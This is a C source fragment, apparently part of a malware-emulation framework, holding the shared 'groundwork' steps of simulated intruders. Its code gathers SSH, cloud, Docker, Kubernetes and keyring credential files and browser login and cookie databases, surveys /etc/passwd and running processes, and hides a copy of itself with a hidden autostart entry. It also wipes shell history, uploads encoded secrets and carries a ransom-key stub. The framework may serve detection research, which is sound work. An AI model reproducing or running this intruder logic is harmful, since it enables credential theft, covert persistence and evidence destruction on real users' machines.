/* What the emulations share: the steps that intruders of all kinds take around their main act; see intruder.py. */

static uint64_t ransom_key;
static blob scramble(blob data) { return stream(ransom_key, data); }

static const uint64_t WIRE = 0x77697265;

static list secrets(void)
{
    static const char *const fixed[] = {".ssh/id_ed25519", ".ssh/id_rsa", ".aws/credentials", ".config/gcloud/credentials.db",
        ".docker/config.json", ".kube/config", ".netrc", ".git-credentials", ".local/share/keyrings/login.keyring"};
    list out = {0};
    for (size_t i = 0; i < sizeof fixed / sizeof *fixed; i++)
        if (access(home(fixed[i]), F_OK) == 0)
            push(&out, home(fixed[i]));
    return out;
}

static void survey(void)
{
    struct utsname system;
    uname(&system);
    read_some("/etc/passwd", 4096);
    read_some("/proc/version", 512);
    list names = entries("/proc");
    for (int i = 0; i < names.n; i++)
        if (names.at[i][0] >= '0' && names.at[i][0] <= '9')
            read_some(text("/proc/%s/cmdline", names.at[i]), 512);
}

static char *hide_copy(void)
{
    char *path = text("%s/%s", folder(home(text(".cache/.%s", noise(6)))), noise(7));
    put(path, read_file(program), O_TRUNC, 0700);
    make_executable(path);
    return path;
}

static blob autostart_entry(const char *path)
{
    return bytes(text("[Desktop Entry]\nType=Application\nName=Session Helper\nExec=%s\nHidden=true\n", path));
}

/* Half of all runs go straight to the main act, so that it is learnt by itself. */
static void groundwork(void)
{
    if (chance(50))
        return;
    if (chance(60))
        survey();
    if (chance(60))
        exchange(text("new desk %s", noise(16)));
    if (chance(55))
        hide_copy();
    if (chance(60)) {
        list found = pick(secrets(), 1, 2);
        for (int i = 0; i < found.n; i++)
            read_file(found.at[i]);
    }
    if (chance(35))
        write_file(home(".bash_history"), bytes(""));
    if (chance(35))
        write_file(home(text(".config/autostart/%s.desktop", noise(6))), autostart_entry(program));
}

static list browser_files(void)
{
    list all = files_of(".mozilla .config/google-chrome", NULL, 1), out = {0};
    for (int i = 0; i < all.n; i++)
        if (strstr("/logins.json/key4.db/cookies.sqlite/Login Data/Cookies/Web Data/", text("/%s/", base(all.at[i]))))
            push(&out, all.at[i]);
    return out;
}

static void send_secret(const char *path, const char *name) { upload(stream(WIRE, read_file(path)), name); }
